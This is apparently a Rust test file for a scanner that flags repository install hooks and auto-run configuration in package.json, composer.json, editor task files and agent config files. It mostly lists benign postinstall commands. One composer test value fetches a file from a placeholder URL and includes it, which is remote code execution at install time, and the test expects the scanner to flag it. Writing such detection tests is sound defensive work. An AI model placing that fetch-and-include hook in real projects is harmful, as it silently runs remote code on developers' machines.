use serde::Deserialize;

use super::*;

/// The examples of `examples.toml`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct StartExamples {
    /// What blocks.
    found: Vec<Example>,
    fine: Vec<Example>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Example {
    path: String,
    text: String,
    #[serde(default)]
    rule: String,
    #[serde(default)]
    line: u32,
}

fn examples() -> StartExamples {
    toml::from_str(include_str!("examples.toml")).unwrap()
}

fn found(path: &str, text: &str) -> Vec<(&'static str, u32, bool)> {
    let mut all = Vec::new();
    find(path, text.as_bytes(), Weight::Full, &mut all).unwrap();
    all.iter()
        .map(|h| (h.rule, h.line, h.score >= 7.0))
        .collect()
}

#[test]
fn what_runs_without_being_asked_for_blocks() {
    for Example {
        path,
        text,
        rule,
        line,
    } in examples().found
    {
        assert_eq!(found(&path, &text), [(&*rule, line, true)], "{path} {text}");
    }
}

#[test]
fn settings_that_cannot_be_read_are_not_clean() {
    let read = |path, content: &[u8]| find(path, content, Weight::Full, &mut Vec::new());
    assert!(read(".vscode/tasks.json", b"{\"tasks\": [}").is_err());
    assert!(read(".mcp.json", &vec![b' '; LONGEST + 1]).is_err());
    // A package manager reads these.
    let deep = "[".repeat(200) + &"]".repeat(200);
    for odd in ["1e999", "\"\\ud800\"", &deep] {
        let text = format!("{{\"scripts\": {{\"postinstall\": \"node x\"}}, \"a\": {odd}}}");
        assert!(read("package.json", text.as_bytes()).is_err(), "{odd}");
    }
    assert!(read(".codex/config.toml", b"notify = ").is_err());
    // What no package manager reads runs nothing.
    assert!(read("template/package.json", b"{\"name\": {{name}} }").is_ok());
    assert!(read(".vscode/tasks.json", b"").is_ok());
}

#[test]
fn what_is_usual_or_asked_for_is_fine() {
    for Example { path, text, .. } in examples().fine {
        assert_eq!(found(&path, &text), [], "{path} {text}");
    }
    for script in [
        "opencollective postinstall || exit 0",
        "husky install && patch-package",
        "npx playwright install --with-deps chromium",
        "electron-rebuild -f -w better-sqlite3",
        "lerna run build && lerna link",
        "nx run-many -t build",
        "cd client && npm install",
        "prisma generate --schema=./prisma/schema.prisma",
        "yarn run build",
        "prebuild-install -r napi || cmake-js compile",
        "npx -y only-allow pnpm",
        "svelte-kit sync || echo ''",
        "pnpm -r --filter ./packages/** run build",
        "echo 'See https://a.example/start'",
        "git config core.hooksPath .githooks",
        "./node_modules/.bin/husky",
        "composer install",
        "composer dump-autoload -o",
        "node -e \\\"if (process.env.NODE_ENV !== 'production'){process.exit(1)} \\\" || husky",
        "node -e \\\"try { require('husky').install() } catch (e) { if (e.code !== 'MODULE_NOT_FOUND') throw e }\\\"",
        "patch-package --error-on-fail",
    ] {
        let text = format!(
            "{{\"scripts\": {{\"postinstall\": \"{script}\", \"build\": \"vite build\"}}}}"
        );
        assert_eq!(found("package.json", &text), [], "{script}");
    }
    for script in [
        "@php -r \\\"if (!file_exists('.env')) copy('.env.example', '.env');\\\"",
        "@php -r \\\"is_dir('a') || mkdir('a');\\\"",
        "@php -r \\\"if (!(getenv('A'))===false){file_exists('.env') || copy('a', '.env');}\\\"",
        "rm ./vendor/a/Updater.php",
        "cp ./build/Updater.php ./vendor/a/",
    ] {
        let text = format!("{{\"scripts\": {{\"post-install-cmd\": \"{script}\"}}}}");
        assert_eq!(found("composer.json", &text), [], "{script}");
    }
    let text = "{\"scripts\": {\"post-install-cmd\": \"@php -r \\\"copy('http://a', 'b'); include('b');\\\"\"}}";
    assert_eq!(found("composer.json", text).len(), 1);
    // Those of tests are in no folder that Python reads.
    let mut all = Vec::new();
    find("tests/a.pth", b"import os\n", Weight::Test, &mut all).unwrap();
    assert!(all.len() == 1 && all.iter().all(|h| h.score < 4.0));
    // More commands than anyone reads take no time, and are as many findings as anyone reads.
    let many: Vec<String> = (0..50_000).map(|i| format!("\"c{i}\"")).collect();
    let text = format!("{{\"scripts\": {{\"postinstall\": [{}]}}}}", many.join(","));
    assert_eq!(found("package.json", &text).len(), MOST);
    // Anybody may say that a file is generated.
    let text = b"{\"description\": \"@generated\", \"scripts\": {\"postinstall\": \"node a.js\"}}";
    let weight = Weight::of(&crate::model::RepoPath::from("package.json"), text);
    let mut all = Vec::new();
    find("package.json", text, weight, &mut all).unwrap();
    assert!(all.len() == 1 && all.iter().all(|h| h.score >= 7.0));
    // Those of examples are not installed with the project.
    let mut all = Vec::new();
    let text = b"{\"scripts\": {\"postinstall\": \"node a.js\"}}";
    find("package.json", text, Weight::Example, &mut all).unwrap();
    assert!(all.iter().all(|h| h.score < 4.0));
}
